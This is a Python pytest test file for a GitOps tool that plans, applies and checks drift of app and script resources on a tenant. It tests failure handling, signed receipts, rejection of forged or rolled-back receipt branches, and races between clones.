"""Plan, apply and drift on the local tenant: the story, what goes wrong, who races, and being killed at every step."""

import subprocess
import sys
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from maa_gitops import receipt
from maa_gitops.apply import Landed, Report, applied, drift, outcome_reader, readable
from maa_gitops.apply import apply as apply_target
from maa_gitops.apply.clone import only_run
from maa_gitops.errors import NotAllowedError, RemoteError, RepositoryError
from maa_gitops.git import RefUpdate, Repository
from maa_gitops.model import ObjectId, Outcome
from maa_gitops.providers import DesiredObject, Provider, RemoteObject
from tests.applying import (
    NOW,
    SCRIPT,
    SETTINGS,
    TARGET,
    World,
    Wrapped,
    git,
    make_keys,
    make_world,
    operations,
    received,
    web_app,
)

PORTAL, PAYROLL, RENAME = "app/portal", "app/finance/payroll", "script/rename"
FIRST = {
    "resources/apps/portal.yaml": web_app("portal", "required"),
    "resources/apps/finance/payroll.yaml": web_app("payroll"),
    "resources/scripts/rename.yaml": SCRIPT.format(file="rename.sh"),
    "resources/scripts/rename.sh": "#!/bin/sh\necho one\n",
}


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Everybody's keys."""
    return make_keys(tmp_path_factory.mktemp("apply") / "keys")


@pytest.fixture(params=["remote", "local"])
def world(request: pytest.FixtureRequest, tmp_path: Path, keys: Path) -> World:
    """A tenant repository with two apps and a script; with a remote and without."""
    world = make_world(tmp_path / "world", keys, has_remote=request.param == "remote")
    world.commit(FIRST)
    return world


@pytest.fixture
def shared(tmp_path: Path, keys: Path) -> World:
    """The same with a remote."""
    world = make_world(tmp_path / "world", keys)
    world.commit(FIRST)
    return world


@pytest.fixture
def alone(tmp_path: Path, keys: Path) -> World:
    """The same without a remote."""
    world = make_world(tmp_path / "world", keys, has_remote=False)
    world.commit(FIRST)
    return world


def tip_of_receipts(world: World) -> str | None:
    """Where the receipts branch is."""
    return world.context().repository.ref(world.branch)


def texts(report: Report) -> dict[str, str]:
    """The differences of a report."""
    return {result.object: result.text for result in report.objects}


# --- the story -------------------------------------------------------------------------------------------------------


def test_a_first_apply_creates_everything_and_leaves_a_receipt(world: World) -> None:
    """Every resource of the tip is there with its marker; the receipt is signed and tells of it."""
    assert operations(world.plan()) == dict.fromkeys((PAYROLL, PORTAL, RENAME), "create")
    report = world.apply()
    assert operations(report) == dict.fromkeys((PAYROLL, PORTAL, RENAME), "create applied")
    remote = world.objects()
    assert set(remote) == {f"maa:contoso:{name}" for name in (PAYROLL, PORTAL, RENAME)}
    assert dict(remote[f"maa:contoso:{RENAME}"].held.data) == {
        "type": "deviceShellScript",
        "displayName": "Rename",
        "runAsAccount": "system",
        "scriptContent": "#!/bin/sh\necho one\n",
        "fileName": "rename.sh",
    }
    found = received(world)
    assert found.newest == report.receipt
    assert found.newest is not None
    assert (found.newest.account, found.newest.failed, found.intent) == ("alice", (), None)
    assert {name: one.remote_id for name, one in found.objects.items()} == {
        marker.removeprefix("maa:contoso:"): one.remote_id for marker, one in remote.items()
    }


def test_a_second_apply_with_nothing_to_do_writes_nothing(world: World) -> None:
    """No receipt, no commit, no object touched; a commit that changes no resource gets one receipt, once."""
    world.apply()
    before, tip = world.objects(), tip_of_receipts(world)
    again = world.apply(1)
    assert (again.objects, again.receipt, world.objects(), tip_of_receipts(world)) == ((), None, before, tip)
    world.commit({"docs/notes.md": "notes"})
    assert [world.apply(minutes).receipt is not None for minutes in (2, 3)] == [True, False]
    assert [len(one.outcomes) for one in received(world).receipts] == [3, 0]


def test_each_operation_is_planned_shown_and_done(world: World) -> None:
    """Create, edit, delete, assign: decoded, with script text; after applying, nothing is left to plan."""
    world.apply()
    world.commit(
        {
            "resources/apps/portal.yaml": web_app("portal", "available"),
            "resources/apps/finance/payroll.yaml": None,
            "resources/apps/new.yaml": web_app("new"),
            "resources/scripts/rename.sh": "#!/bin/sh\necho two\n",
        }
    )
    planned = world.plan()
    expected = {PAYROLL: "delete", PORTAL: "assign", RENAME: "edit", "app/new": "create"}
    assert operations(planned) == expected
    assert '-- intent: "required"\n+- intent: "available"' in texts(planned)[PORTAL]
    assert "   #!/bin/sh\n-  echo one\n+  echo two\n" in texts(planned)[RENAME]
    assert texts(planned)["app/new"].splitlines()[1] == '+appUrl: "https://new.example"'
    calls: list[str] = []
    done = world.apply(1, wrap=lambda provider: Wrapped(provider, calls.append))
    assert operations(done) == {name: f"{operation} applied" for name, operation in expected.items()}
    assert (texts(done), calls[-1]) == (texts(planned), "done delete")
    assert (world.names(), world.plan().objects) == ({PORTAL, RENAME, "app/new"}, ())


def test_several_requests_for_one_object_are_one_operation(world: World) -> None:
    """An object is brought to the tip's state once; all requests that led there are named."""
    world.apply()
    world.commit({"resources/apps/portal.yaml": web_app("one")})
    world.commit({"resources/apps/portal.yaml": web_app("two")})
    landed = {PORTAL: [Landed("second", "alice"), Landed("first", "alice")], PAYROLL: [Landed("other", "bob")]}
    report = world.apply(1, requests=landed)
    assert [(one.object, one.requests) for one in report.objects] == [(PORTAL, ("first", "second"))]
    assert world.objects()[f"maa:contoso:{PORTAL}"].held.data["displayName"] == "two"


def test_a_document_that_says_the_same_otherwise_is_sent_to_nobody(world: World) -> None:
    """A comment is no edit; the object map learns of the new file all the same."""
    world.apply()
    world.commit({"resources/apps/portal.yaml": "# a comment\n" + web_app("portal", "required")})
    calls: list[str] = []
    assert world.plan().objects == ()
    report = world.apply(1, wrap=lambda provider: Wrapped(provider, calls.append))
    assert (operations(report), calls) == ({PORTAL: "none applied"}, ["objects", "done objects"])
    assert world.apply(2).objects == ()


def test_a24_a_rename_moves_the_remote_object(world: World) -> None:
    """Delete and create of what would be sent as the same object keep the id, script files included."""
    world.apply()
    ids = {name: world.objects()[f"maa:contoso:{name}"].remote_id for name in (PAYROLL, RENAME)}
    world.commit(
        {
            "resources/apps/finance/payroll.yaml": None,
            "resources/apps/hr/payroll.yaml": web_app("payroll"),
            "resources/scripts/rename.yaml": None,
            "resources/scripts/rename.sh": None,
            "resources/scripts/rename-mac.yaml": SCRIPT.format(file="rename-mac.sh"),
            "resources/scripts/rename-mac.sh": "#!/bin/sh\necho one\n",
        }
    )
    report = world.apply(1, requests={PAYROLL: [Landed("move", "a")], "script/rename-mac": [Landed("move", "a")]})
    assert operations(report) == {"app/hr/payroll": "move applied", "script/rename-mac": "move applied"}
    assert {result.requests for result in report.objects} == {("move",)}
    objects = world.objects()
    moved = {"app/hr/payroll": PAYROLL, "script/rename-mac": RENAME}
    assert {name: objects[f"maa:contoso:{name}"].remote_id for name in moved} == {
        name: ids[old] for name, old in moved.items()
    }
    assert report.receipt is not None
    assert [one.object for one in report.receipt.outcomes] == sorted([*moved, *moved.values()])
    assert (world.plan().objects, set(received(world).objects)) == ((), {PORTAL, *moved})


def test_a_move_with_two_candidates_is_none(alone: World) -> None:
    """Where it cannot be told which one moved, the old goes and the new are made."""
    alone.apply()
    alone.commit(
        {
            "resources/apps/finance/payroll.yaml": None,
            "resources/apps/a.yaml": web_app("payroll"),
            "resources/apps/b.yaml": web_app("payroll"),
        }
    )
    assert operations(alone.plan()) == {PAYROLL: "delete", "app/a": "create", "app/b": "create"}


def test_the_plan_of_a_request_is_that_of_its_tree(world: World) -> None:
    """What completing would make is planned without being there; the target is left alone."""
    world.apply()
    git(world.folder, "switch", "-qc", "change/x")
    (world.folder / "resources/apps/portal.yaml").write_text(web_app("portal", "uninstall"))
    git(world.folder, "commit", "-qam", "x")
    tree = git(world.folder, "rev-parse", "HEAD^{tree}")
    assert operations(world.plan(tree)) == {PORTAL: "assign"}
    assert world.plan().objects == ()


def test_an_unchanged_tip_is_compared_without_reading_a_resource(shared: World) -> None:
    """Work is proportional to the change: nothing under resources/ is read to find nothing to do."""
    shared.apply()
    read: list[str] = []

    class Watched(Repository):
        def blob(self, oid: str) -> bytes:
            read.append(oid)
            return super().blob(oid)

    watched, provider = replace(shared, repository_class=Watched), shared.provider()
    context = watched.context(1)
    read.clear()  # judging the steps of history reads what changed in them
    assert apply_target(context, watched.deployer(), TARGET, provider).receipt is None
    provider.close()
    resources = git(shared.folder, "ls-tree", "-r", "--format=%(objectname)", "main", "resources").split()
    assert len(resources) == 4
    assert read
    assert not {*resources} & {*read}


def test_objects_of_types_that_the_target_does_not_take_are_left_out(alone: World) -> None:
    """They are neither planned nor counted as failed."""

    class AppsOnly(Wrapped):
        def takes(self, profile_type: str) -> bool:
            return profile_type == "app"

    report = alone.apply(wrap=lambda provider: AppsOnly(provider, lambda _: None))
    assert (set(operations(report)), report.failed) == ({PORTAL, PAYROLL}, ())


def test_own_profile_types_are_applied_with_the_files_that_they_name(tmp_path: Path, keys: Path) -> None:
    """Any key that ends in File takes its file in, byte for byte."""
    types = "profileTypes:\n  profile: {folder: profiles}\n"
    world = make_world(tmp_path / "world", keys, has_remote=False, settings=SETTINGS + types)
    world.commit(
        {
            "resources/profiles/wifi.yaml": "payloadFile: wifi.xml\nratio: 0.5\n",
            "resources/profiles/wifi.xml": "\ufeff<x/>\r\n",
        }
    )
    world.apply()
    (remote,) = world.objects().values()
    assert remote.held == DesiredObject("profile", {"payloadContent": "\ufeff<x/>\r\n", "ratio": 0.5})


# --- what a person reads ---------------------------------------------------------------------------------------------


def test_a_state_is_written_so_that_every_difference_shows() -> None:
    """Keys are sorted, types can be told apart, a last line feed is a line, nesting is indented."""
    data = {
        "text": "1",
        "number": 1,
        "script": "a\n\tb\r\n",
        "list": [1, "x\ny", [], {"deep": {"er": None}, "b": True}, ["in", "ner"]],
        "empty": {},
    }
    state = DesiredObject("app", data, ({"intent": "b", "target": {"group": "ß"}}, {"intent": "a"}))
    assert readable(state).split("\n") == [
        "empty: {}",
        "list:",
        "- 1",
        '- "x\\ny"',
        "- []",
        "- b: true",
        "  deep:",
        "    er: null",
        '- - "in"',
        '  - "ner"',
        "number: 1",
        "script: |",
        "  a",
        "  \tb\r",
        "  ",
        'text: "1"',
        "assignments:",
        '- intent: "a"',
        '- intent: "b"',
        "  target:",
        '    group: "ß"',
    ]


# --- what fails ------------------------------------------------------------------------------------------------------

BROKEN: Mapping[str, tuple[Mapping[str, str | bytes | None], str, str]] = {
    "a document out of its schema": ({"resources/apps/portal.yaml": "type: webApp\n"}, PORTAL, "displayName"),
    "a document that is no YAML": ({"resources/apps/portal.yaml": "a: [\n"}, PORTAL, "portal.yaml:2:1: not YAML"),
    "a script that is missing": ({"resources/scripts/rename.sh": None}, RENAME, "'rename.sh' is not there"),
    "a document that is missing": ({"resources/scripts/rename.yaml": None}, RENAME, "no resource names this file"),
    "a script that is no text": ({"resources/scripts/rename.sh": b"#!\xff"}, RENAME, "rename.sh is not UTF-8: byte 2"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_resource_fails_alone(alone: World, name: str) -> None:
    """Its problem is its outcome; the target keeps what it has, everything else is applied; once it is told, once."""
    files, failing, words = BROKEN[name]
    alone.apply()
    before = alone.objects()
    alone.commit({**files, "resources/apps/new.yaml": web_app("new")})
    planned, report, again = alone.plan(), alone.apply(1), alone.apply(2)
    expected = {failing: "none failed", "app/new": "create"}
    assert operations(planned) == expected
    assert operations(report) == expected | {"app/new": "create applied"}
    assert (operations(again), again.receipt) == ({failing: "none failed"}, None)
    for found in (planned, report, again):
        (result,) = found.failed
        assert words in (result.message or "")
    assert report.receipt is not None
    assert report.receipt.failed == (failing,)
    after = alone.objects()
    assert {marker: after[marker] for marker in before} == before


def test_a_file_that_no_key_takes_fails(tmp_path: Path, keys: Path) -> None:
    """Content that would silently not be sent is an error: named elsewhere, or twice under one name."""
    types = "profileTypes:\n  profile: {folder: profiles}\n"
    world = make_world(tmp_path / "world", keys, has_remote=False, settings=SETTINGS + types)
    documents = {
        "deep": "inner: {payloadFile: deep.xml}\n",
        "both": "payloadFile: both.xml\npayloadContent: x\n",
        "list": "- list.xml\n",
        "assigned": "assignments: everybody\npayloadFile: assigned.xml\n",
    }
    for name, document in documents.items():
        files = {f"resources/profiles/{name}.yaml": document, f"resources/profiles/{name}.xml": "<x/>\n"}
        world.commit(files)
    words = {
        "profile/assigned": "assignments is no list",
        "profile/both": "has both payloadFile and payloadContent",
        "profile/deep": "deep.xml is named by no key of its own",
        "profile/list": "is no mapping",
    }
    failed = {result.object: result.message or "" for result in world.plan().failed}
    assert {name: words[name] in failed[name] for name in failed} == dict.fromkeys(words, True)


class Moody(Wrapped):
    """A provider that fails at every call of which the name begins so."""

    def __init__(self, provider: Provider, failing: str | tuple[str, ...], calls: list[str]) -> None:
        super().__init__(provider, self._fail)
        self.failing = failing
        self.calls = calls

    def _fail(self, call: str) -> None:
        self.calls.append(call)
        if call.startswith(self.failing):
            raise RemoteError("the service is in a mood")


@pytest.mark.parametrize("failing", [f"create maa:contoso:{PAYROLL}", f"done create maa:contoso:{PAYROLL}"])
def test_an_object_that_fails_does_not_stop_the_others_and_alone_is_tried_again(world: World, failing: str) -> None:
    """Also where the target did what it says it did not: there is no duplicate."""
    report = world.apply(wrap=lambda provider: Moody(provider, failing, []))
    assert operations(report) == {PAYROLL: "create failed", PORTAL: "create applied", RENAME: "create applied"}
    assert [result.message for result in report.failed] == ["the service is in a mood"]
    assert report.receipt is not None
    assert report.receipt.failed == (PAYROLL,)
    assert world.drift().objects == ()
    calls: list[str] = []
    again = world.apply(1, wrap=lambda provider: Moody(provider, "nothing", calls))
    assert [result.object for result in again.objects] == [PAYROLL]
    assert not [call for call in calls if PORTAL in call or RENAME in call]
    assert world.names() == {PAYROLL, PORTAL, RENAME}
    assert [one.failed for one in received(world).receipts] == [(PAYROLL,), ()]


def test_what_a_run_sent_without_being_told_so_is_no_drift(alone: World) -> None:
    """Nobody went around the gate; the next run settles it."""
    alone.apply()
    alone.commit({"resources/apps/portal.yaml": web_app("other")})
    report = alone.apply(1, wrap=lambda provider: Moody(provider, "done update", []))
    assert operations(report) == {PORTAL: "edit failed"}
    assert alone.drift().objects == ()
    assert operations(alone.apply(2)) == {PORTAL: "none applied"}


def test_a_failed_move_and_a_failed_delete_are_told_of_both_names_and_tried_again(alone: World) -> None:
    """Neither the old object nor the new one is at its state."""
    alone.apply()
    alone.commit(
        {
            "resources/apps/finance/payroll.yaml": None,
            "resources/apps/pay.yaml": web_app("payroll"),
            "resources/apps/portal.yaml": None,
        }
    )
    report = alone.apply(1, wrap=lambda provider: Moody(provider, ("update", "delete"), []))
    assert report.receipt is not None
    assert report.receipt.failed == (PAYROLL, "app/pay", PORTAL)
    assert alone.names() == {PAYROLL, PORTAL, RENAME}
    assert alone.drift().objects == ()
    assert operations(alone.apply(2)) == {"app/pay": "move applied", PORTAL: "delete applied"}
    assert alone.names() == {"app/pay", RENAME}


def test_an_object_that_was_not_listed_is_found_by_its_mark_before_it_is_made(alone: World) -> None:
    """A list that lags behind makes no duplicate."""

    class Late(Wrapped):
        def objects(self) -> Mapping[str, RemoteObject]:
            return {}

    alone.apply()
    before = alone.objects()
    alone.apply(1, rebuild=True, wrap=lambda provider: Late(provider, lambda _: None))
    assert alone.objects() == before


def test_an_object_that_the_target_cannot_take_fails_alone(alone: World) -> None:
    """A group that the target does not know, say, is told for the object that names it; drift still shows it."""

    class Ignorant(Wrapped):
        def as_sent(self, desired: DesiredObject) -> DesiredObject:
            if desired.assignments:
                raise RemoteError("there is no group Staff")
            return desired

    report = alone.apply(wrap=lambda provider: Ignorant(provider, lambda _: None))
    assert operations(report) == {PORTAL: "none failed", PAYROLL: "create applied", RENAME: "create applied"}
    alone.apply(1)
    provider = alone.provider()
    (remote,) = (one for one in provider.objects().values() if one.marker == f"maa:contoso:{PORTAL}")
    provider.assign(remote.remote_id, ())
    found = drift(alone.context(), TARGET, Ignorant(provider, lambda _: None))
    provider.close()
    assert operations(found) == {PORTAL: "edit changed"}


def test_a_tree_with_broken_rules_is_not_planned(alone: World) -> None:
    """What the rules are is needed to know what a path is."""
    git(alone.folder, "rm", "-q", "maa.yaml")
    tree = git(alone.folder, "write-tree")
    with pytest.raises(RepositoryError, match=r"maa\.yaml: missing"):
        alone.plan(tree)


def test_a_target_that_does_not_answer_stops_before_anything_is_written(world: World) -> None:
    """No intent, no receipt."""
    with pytest.raises(RemoteError, match="mood"):
        world.apply(wrap=lambda provider: Moody(provider, "objects", []))
    assert tip_of_receipts(world) is None


def test_f4_a_run_that_died_when_all_was_sent_is_ended(alone: World) -> None:
    """What was put back is found as it should be; the map learns of new ids, and the intent goes."""
    alone.apply()
    ids = {marker: one.remote_id for marker, one in alone.objects().items()}
    for minutes, (call, name) in enumerate((("done create", PAYROLL), ("done assign", PORTAL)), start=1):
        provider = alone.provider()
        if name == PAYROLL:
            provider.delete(ids[f"maa:contoso:{PAYROLL}"])
        else:
            provider.assign(ids[f"maa:contoso:{PORTAL}"], ())
        provider.close()
        with pytest.raises(KeyboardInterrupt):
            alone.apply(minutes, wrap=lambda provider, call=call: Interrupted(provider, call))  # type: ignore[misc]
        alone.apply(minutes)
        found, there = received(alone), alone.objects()
        assert found.intent is None
        assert {one.remote_id for one in found.objects.values()} == {one.remote_id for one in there.values()}
    assert [len(one.outcomes) for one in received(alone).receipts] == [3, 1, 0]


class Doubled(Wrapped):
    """A provider of which somebody copied the portal, mark and all."""

    def __init__(self, provider: Provider) -> None:
        super().__init__(provider, lambda _: None)

    def objects(self) -> Mapping[str, RemoteObject]:
        """One more than there are."""
        found = dict(super().objects())
        twin = next(one for one in found.values() if one.marker == f"maa:contoso:{PORTAL}")
        return {**found, "twin": replace(twin, remote_id="twin")}


def test_two_objects_with_one_mark_fail_and_are_left_alone(alone: World) -> None:
    """Which one is ours is for a person to say; it is drift, too."""
    alone.apply()
    provider = alone.provider()
    found = drift(alone.context(), TARGET, Doubled(provider))
    provider.close()
    assert operations(found) == {PORTAL: "create changed"}
    alone.commit({"resources/apps/portal.yaml": web_app("other")})
    before = alone.objects()
    report = alone.apply(1, wrap=Doubled)
    assert operations(report) == {PORTAL: "none failed"}
    for result in (*found.objects, *report.objects):
        assert "several objects of the target bear its mark" in (result.message or "")
    assert alone.objects() == before
    assert operations(alone.apply(2)) == {PORTAL: "edit applied"}


def test_what_a_person_has_put_right_is_no_longer_failed(alone: World) -> None:
    """Requests that waited for it are told by a receipt, though nothing is left to send."""
    alone.apply()
    alone.commit({"docs/notes.md": "notes"})
    alone.apply(1, wrap=Doubled)
    alone.apply(2)
    assert [one.failed for one in received(alone).receipts] == [(), (PORTAL,), ()]
    assert alone.apply(3).receipt is None


UNAPPROVED = {"maa.yaml": SETTINGS + "requests: {expireAfterDays: 9}\n"}

# --- who may, and on what --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("account", ["carol", "dave", "mallory"])
def test_only_an_enabled_deployer_applies(alone: World, account: str) -> None:
    """Without the role, disabled, or unknown: the message names who can; nothing is written."""
    with pytest.raises(NotAllowedError, match="alice, bob can"):
        replace(alone, account=account).apply()
    assert (tip_of_receipts(alone), alone.names()) == (None, set())


def test_a_key_that_is_not_the_accounts_own_makes_no_receipt(alone: World) -> None:
    """The receipt is judged before it is put anywhere; the next run takes over at once."""
    provider = alone.provider()
    forged = replace(alone.deployer(), sign=alone.signer("bob").sign)
    with pytest.raises(RepositoryError, match="not by a key of account alice"):
        apply_target(alone.context(), forged, TARGET, provider)
    provider.close()
    assert received(alone).receipts == ()
    assert operations(alone.apply(1)) == dict.fromkeys((PAYROLL, PORTAL, RENAME), "none applied")


def test_f5_only_a_good_tip_is_applied(world: World) -> None:
    """A tip with a change that nobody approved is refused, with its violation; also for a plan; healed, it goes on."""
    world.apply()
    world.commit(UNAPPROVED)
    acts: tuple[Callable[[], Report], ...] = (lambda: world.apply(1), world.plan)
    for act in acts:
        with pytest.raises(NotAllowedError, match="is not good: protected paths changed") as caught:
            act()
        assert caught.value.code == "unapprovedChange"
    git(world.folder, "revert", "--no-edit", "HEAD")
    if world.has_remote:
        git(world.folder, "push", "-q", "origin", "main")
    assert world.apply(2).receipt is not None


def test_h10_a_receipt_for_a_bad_commit_does_not_read(world: World) -> None:
    """Not even a deployer's own receipt counts for what nobody approved."""
    world.apply()
    before = received(world)
    bad = world.commit(UNAPPROVED)
    assert before.newest is not None
    draft = receipt.Draft(
        account="alice", at=NOW, commit=bad, outcomes=(), run="x", store="x", target="local", tenant="contoso",
        state=before.newest.state, failed=(),
    )  # fmt: skip
    forge(world, receipt.extend(before.data, draft, world.signer("alice").sign), receipt.objects_file(before.objects))
    git(world.folder, "revert", "--no-edit", "HEAD")
    if world.has_remote:
        git(world.folder, "push", "-q", "origin", "main")
    with pytest.raises(RepositoryError, match="is not a good commit of the protected branch"):
        world.apply(1)


def forge(world: World, data: bytes, objects: bytes | None) -> None:
    """Put files on the receipts branch, as anybody who can push could."""
    repository = world.repository()
    tree = receipt.tree_of(repository, data, objects or b"")
    old = world.context().repository.ref(world.branch)
    identity = world.deployer().identity
    new = repository.write_commit(tree=tree, parents=[old] if old else [], message="m", identity=identity, at=NOW)
    move_receipts(world, old, new)


def move_receipts(world: World, old: str | None, new: str | None) -> None:
    """Move the receipts branch, wherever it was."""
    update = RefUpdate("refs/heads/maa/applied/local", old, new)
    if world.has_remote:
        world.repository().push([update])
    else:
        world.repository().update_refs([update], "forged")


# --- receipts that do not read, or go back ---------------------------------------------------------------------------


def test_receipts_that_do_not_read_are_reported_and_rebuilt(world: World) -> None:
    """Nothing goes on from them: not plan, not apply, not drift; a new chain finds every object again."""
    world.apply()
    before = world.objects()
    forge(world, b"junk\n", b"{}\n")
    acts: tuple[Callable[[], Report], ...] = (world.plan, world.drift, lambda: world.apply(1))
    for act in acts:
        with pytest.raises(RepositoryError, match="do not read: receipt 1: it is no receipt") as caught:
            act()
        assert "maa apply --rebuild" in (caught.value.hint or "")
    report = world.apply(2, rebuild=True)
    assert operations(report) == dict.fromkeys((PAYROLL, PORTAL, RENAME), "none applied")
    assert (world.objects(), len(received(world).receipts)) == (before, 1)
    assert (world.apply(3).receipt, world.drift().objects) == (None, ())


def test_b7_receipts_that_this_clone_has_seen_cannot_be_taken_back(world: World) -> None:
    """Neither an older state of the branch nor its absence is believed, signed as it is."""
    world.apply()
    older = tip_of_receipts(world)
    world.commit({"resources/apps/new.yaml": web_app("new")})
    world.apply()  # in the same second
    newest = tip_of_receipts(world)
    for rolled_back in (older, None):
        move_receipts(world, tip_of_receipts(world), rolled_back)
        with pytest.raises(RepositoryError, match="have lost the one of 2026-11-23T10:00:00Z") as caught:
            world.apply(2)
        assert caught.value.code == "receiptsRolledBack"
    move_receipts(world, None, newest)
    assert world.apply(2).receipt is None


def test_a_chain_that_somebody_rebuilt_is_gone_on_with(shared: World) -> None:
    """A chain begun after the newest receipt seen is no rollback; the one before it is, from then on."""
    shared.apply()
    older = tip_of_receipts(shared)
    shared.other_clone("bobs", "bob").apply(1, rebuild=True)
    rebuilt = tip_of_receipts(shared)
    assert shared.apply(2).receipt is not None
    assert len(received(shared).receipts) == 2
    move_receipts(shared, tip_of_receipts(shared), older)
    with pytest.raises(RepositoryError, match="have lost"):
        shared.apply(3)
    move_receipts(shared, older, rebuilt)
    with pytest.raises(RepositoryError, match="have lost"):
        shared.apply(3)


def test_receipts_of_a_tip_that_is_newer_than_what_was_judged_are_no_forgeries(world: World) -> None:
    """Somebody merged and applied in the meantime: try again, and do not start a new chain."""
    context = world.context()
    world.commit({"resources/apps/new.yaml": web_app("new")})
    world.apply(1)
    with pytest.raises(RemoteError, match="moved on in the meantime") as caught:
        applied(context, "local")
    assert caught.value.retry


def test_f7_an_edited_object_map_does_not_read(world: World) -> None:
    """Nobody makes an object ours, so that apply deletes it, by writing it into the map."""
    world.apply()
    found = received(world)
    entry = next(iter(found.objects.values()))
    forge(world, found.data, receipt.objects_file({**found.objects, "app/foreign": entry}))
    with pytest.raises(RepositoryError, match="is not the map that the newest receipt was signed for"):
        world.apply(1)


def test_what_is_not_in_the_map_is_never_deleted(alone: World) -> None:
    """An object with our mark that no receipt tells of stays, and is drift."""
    alone.apply()
    provider = alone.provider()
    provider.create(DesiredObject("app", {"displayName": "x"}), "maa:contoso:app/x")
    provider.close()
    assert (alone.apply(1).objects, alone.names()) == ((), {PAYROLL, PORTAL, RENAME, "app/x"})
    assert operations(alone.drift()) == {"app/x": "create foreign"}


def test_a_damaged_memory_is_no_leave_to_go_back(alone: World) -> None:
    """What this clone can no longer tell it does not guess."""
    alone.apply()
    memory = alone.folder / ".git/maa/applied/local.json"
    memory.write_text("{")
    with pytest.raises(RepositoryError, match=r"local\.json cannot be used"):
        alone.apply(1)
    memory.unlink()
    assert alone.apply(1).receipt is None


# --- other clones ----------------------------------------------------------------------------------------------------


def test_another_clone_has_no_copy_of_the_local_tenant(shared: World) -> None:
    """It says so, plans and applies everything, and calls nothing of it drift."""
    shared.apply()
    bobs = shared.other_clone("bobs", "bob")
    message = "this clone has no copy of the local tenant; `maa apply` rebuilds it"
    assert (bobs.drift().objects, bobs.drift().message) == ((), message)
    assert operations(bobs.plan()) == dict.fromkeys((PAYROLL, PORTAL, RENAME), "create")
    assert bobs.plan().message == message
    report = bobs.apply(1)
    assert (report.message, bobs.names()) == (message, shared.names())
    assert (bobs.drift().message, bobs.plan().objects) == (None, ())


def test_a_copy_that_fell_behind_goes_on_from_its_own_last_receipt(shared: World) -> None:
    """Clones that take turns each know what they made themselves, and delete it when it leaves the tip."""
    shared.apply()
    bobs = shared.other_clone("bobs", "bob")
    bobs.apply(1)
    shared.commit({"resources/apps/portal.yaml": None})
    bobs.apply(2)
    assert "older than the newest receipt" in (shared.plan().message or "")
    assert shared.drift().objects == ()
    assert operations(shared.apply(3)) == {PORTAL: "delete applied"}
    assert shared.names() == bobs.names() == {PAYROLL, RENAME}
    assert len(received(shared).receipts) == 4


class Interrupted(Wrapped):
    """A provider at a call of which, the first create if none is given, the process ends."""

    def __init__(self, provider: Provider, call: str = "create") -> None:
        super().__init__(provider, self._end)
        self.last = call

    def _end(self, call: str) -> None:
        if call.startswith(self.last):
            raise KeyboardInterrupt


def test_f4_a_dead_run_stops_other_clones_for_15_minutes_and_its_own_clone_not_at_all(shared: World) -> None:
    """A run that was cut off may still be writing, as far as others can tell; this clone knows better."""
    bobs = shared.other_clone("bobs", "bob")
    with pytest.raises(KeyboardInterrupt):
        shared.apply(wrap=Interrupted)
    assert received(shared).intent is not None
    for rebuild in (False, True):
        with pytest.raises(
            RemoteError, match="another clone is applying to local since 2026-11-23T10:00:00Z"
        ) as caught:
            bobs.apply(14.9, rebuild=rebuild)
        assert (caught.value.retry, "2026-11-23T10:15:00Z" in (caught.value.hint or "")) == (True, True)
    assert bobs.apply(15).receipt is not None
    with pytest.raises(KeyboardInterrupt):
        shared.apply(16, wrap=Interrupted)
    assert shared.apply(16).receipt is not None
    assert received(shared).intent is None


def test_an_intent_from_the_future_stops_nobody_for_long(shared: World) -> None:
    """A clock that is wrong, or a lie, does not lock a target for years."""
    bobs = shared.other_clone("bobs", "bob")
    with pytest.raises(KeyboardInterrupt):
        shared.apply(5, wrap=Interrupted)
    with pytest.raises(RemoteError):
        bobs.apply(0)
    assert bobs.apply(-0.1).receipt is not None


def test_a_second_process_of_the_clone_waits(alone: World) -> None:
    """The run of a process that is alive is not taken over."""
    with only_run(alone.folder / ".git", "local"), pytest.raises(RemoteError, match="is under way") as caught:
        alone.apply()
    assert caught.value.retry
    assert alone.apply().receipt is not None


class Meanwhile(Wrapped):
    """A provider at whose given call something else happens, once."""

    def __init__(self, provider: Provider, call: str, act: Callable[[], object]) -> None:
        super().__init__(provider, self._act)
        self.waiting = {call: act}

    def _act(self, call: str) -> None:
        act = self.waiting.pop(call.partition(" ")[0], None)
        if act is not None:
            act()


def test_f1_of_two_clones_that_begin_at_once_one_is_refused(shared: World) -> None:
    """The intent is put by compare-and-swap; who comes second has written nothing."""
    bobs = shared.other_clone("bobs", "bob")
    with pytest.raises(RemoteError) as caught:
        bobs.apply(wrap=lambda provider: Meanwhile(provider, "objects", shared.apply))
    assert (caught.value.code, caught.value.retry, bobs.names()) == ("lostRace", True, set())
    assert [one.account for one in received(shared).receipts] == ["alice"]


def test_f1_a_run_that_was_taken_over_makes_no_receipt_and_says_so(shared: World) -> None:
    """There is never a second receipt for one state of the branch; the next run finds what was sent."""
    bobs = shared.other_clone("bobs", "bob")
    with pytest.raises(RemoteError, match="has no receipt yet: another run took over in the meantime") as caught:
        shared.apply(wrap=lambda provider: Meanwhile(provider, "find", lambda: bobs.apply(20)))
    assert (caught.value.retry, caught.value.hint) == (True, "run again, which finds what was sent: maa apply")
    assert [one.account for one in received(shared).receipts] == ["bob"]
    assert operations(shared.apply(21)) == dict.fromkeys((PAYROLL, PORTAL, RENAME), "none applied")
    assert [one.account for one in received(shared).receipts] == ["bob", "alice"]


def test_f1_a_run_that_is_being_taken_over_names_the_other(shared: World) -> None:
    """The message says whose run is on."""
    bobs = shared.other_clone("bobs", "bob")

    def die_in_bobs_clone() -> None:
        with pytest.raises(KeyboardInterrupt):
            bobs.apply(20, wrap=Interrupted)

    with pytest.raises(RemoteError, match="run bobs-2 of another clone took over"):
        shared.apply(wrap=lambda provider: Meanwhile(provider, "find", die_in_bobs_clone))
    assert received(shared).receipts == ()


@pytest.mark.parametrize("arrives", [True, False])
def test_a_push_without_an_answer_is_looked_up(shared: World, arrives: bool) -> None:
    """A receipt that arrived although the push failed is not made again; one that did not is made by the next run."""

    class Deaf(Repository):
        pushes = 0

        def push(self, updates: Sequence[RefUpdate]) -> None:
            Deaf.pushes += 1
            if Deaf.pushes != 2 or arrives:
                super().push(updates)
            if Deaf.pushes == 2:
                raise RemoteError("the line went dead", retry=True, code="pushFailed")

    world = replace(shared, repository_class=Deaf)
    if arrives:
        assert world.apply().receipt is not None
    else:
